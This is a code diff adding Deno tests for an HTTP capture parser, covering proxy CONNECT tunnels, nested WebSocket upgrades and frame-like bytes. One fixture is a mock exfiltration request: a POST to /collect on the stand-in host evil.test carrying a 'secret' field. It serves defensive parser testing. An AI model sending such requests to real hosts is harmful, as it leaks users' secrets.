@@ -355,3 +355,121 @@ Deno.test("a connection joined after it began (capture --pid): read from its nex
   assert.equal(calls(cwhole).length, 3);
   assert.deepEqual(calls(cjoined), calls(cwhole), "every call read, as from the upgrade");
 });
+
+Deno.test("an HTTPS proxy's CONNECT refused (407) then retried, and a tunnel inside a tunnel: read, said, no throw", async () => {
+  const t = (s: string) => enc.encode(s);
+  const connect = (auth: string) =>
+    t(`CONNECT a.test:443 HTTP/1.1\r\nHost: a.test:443\r\n${auth}\r\n`);
+  // (a) the proxy asks for credentials; the client asks again with them, then speaks TLS
+  const refused = await buildHttpTables(
+    "hand",
+    view([
+      [1, "write", connect("")],
+      [1, "read", t("HTTP/1.1 407 Proxy Authentication Required\r\nContent-Length: 0\r\n\r\n")],
+      [1, "write", connect("Proxy-Authorization: Basic eDp5\r\n")],
+      [1, "read", t("HTTP/1.1 200 Connection established\r\n\r\n")],
+      [1, "write", new Uint8Array([0x16, 3, 1, 0, 5, 1, 2, 3, 4, 5])],
+      [1, "read", new Uint8Array([0x16, 3, 3, 0, 2, 2, 0])],
+    ]),
+    prices,
+  );
+  assert.deepEqual(
+    refused.exchanges.map((e) => [e.method, e.path, e.status]),
+    [["CONNECT", "a.test:443", 407], ["CONNECT", "a.test:443", 200]],
+  );
+  assert.deepEqual(refused.problems.map((p) => p.message), [
+    "10 + 7 bytes tunnelled after CONNECT a.test:443 not parsed: TLS to the target inside the " +
+    "proxy's TLS (its plaintext is a connection of its own where that TLS is hooked)",
+  ]);
+  // (b) a cleartext tunnel read on, in which a WebSocket upgrade opens a tunnel of its own
+  const nested = await buildHttpTables(
+    "hand",
+    view([
+      [1, "write", t("CONNECT a.test:80 HTTP/1.1\r\nHost: a.test:80\r\n\r\n")],
+      [1, "read", t("HTTP/1.1 200 Connection established\r\n\r\n")],
+      [
+        1,
+        "write",
+        t(
+          "GET /ws HTTP/1.1\r\nHost: a.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" +
+            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
+        ),
+      ],
+      [
+        1,
+        "read",
+        t(
+          "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" +
+            "Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n",
+        ),
+      ],
+      [1, "write", new Uint8Array([0x81, 0x82, 1, 2, 3, 4, 0x68 ^ 1, 0x69 ^ 2])],
+      [1, "read", new Uint8Array([0x81, 2, 0x68, 0x69])],
+    ]),
+    prices,
+  );
+  assert.deepEqual(
+    nested.exchanges.map((e) => [e.method, e.host, e.path, e.status]),
+    [["CONNECT", "a.test:80", "a.test:80", 200], ["GET", "a.test", "/ws", 101]],
+  );
+  assert.deepEqual(nested.problems.map((p) => p.message), [
+    "8 + 4 bytes of a tunnel inside the CONNECT tunnel (GET /ws) not parsed: a tunnel inside " +
+    "the tunnel is not read",
+  ]);
+});
+
+Deno.test("a frame-like byte before a status line or a chunk size does not make a WebSocket of an HTTP connection", async () => {
+  const t = (s: string) => enc.encode(s);
+  const cat = (...b: Uint8Array[]) => {
+    const out = new Uint8Array(b.reduce((n, x) => n + x.length, 0));
+    b.reduce((o, x) => (out.set(x, o), o + x.length), 0);
+    return out;
+  };
+  const body = '{"secret":"' + "s".repeat(120) + '"}';
+  // a hostile server puts a ping's header before its status line: the request stays read
+  const hidden = await parsedAs(
+    view([
+      [
+        1,
+        "write",
+        t(
+          `POST /collect HTTP/1.1\r\nHost: evil.test\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
+        ),
+      ],
+      [
+        1,
+        "read",
+        cat(new Uint8Array([0x89, 0]), t("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")),
+      ],
+    ]),
+    "command",
+  );
+  assert.deepEqual(
+    hidden.exchanges.map((e) => [e.method, e.host, e.path]),
+    [["POST", "evil.test", "/collect"]],
+  );
+  assert.ok(!hidden.problems.some((p) => /WebSocket/.test(p.message)), "no WebSocket said");
+  // a keep-alive connection joined inside a chunked answer whose chunk size is upper-case hex
+  // (`B`: a binary frame's first byte): the next exchange is read
+  const next = JSON.stringify({ model: "m", messages: [{ role: "user", content: "hi" }] });
+  const joined = await parsedAs(
+    view([
+      [1, "read", t(`B2\r\n${"x".repeat(0xb2)}\r\n0\r\n\r\n`)],
+      [
+        1,
+        "write",
+        t(
+          "POST /v1/chat/completions HTTP/1.1\r\nHost: api.test\r\nContent-Type: application/json" +
+            `\r\nContent-Length: ${next.length}\r\n\r\n${next}`,
+        ),
+      ],
+      [1, "read", t("HTTP/1.1 204 No Content\r\n\r\n")],
+    ]),
+    "pid",
+  );
+  assert.deepEqual(
+    joined.exchanges.map((e) => [e.method, e.path, e.status]),
+    [["POST", "/v1/chat/completions", 204]],
+  );
+  assert.ok(!joined.problems.some((p) => /WebSocket/.test(p.message)), "no WebSocket said");
+});
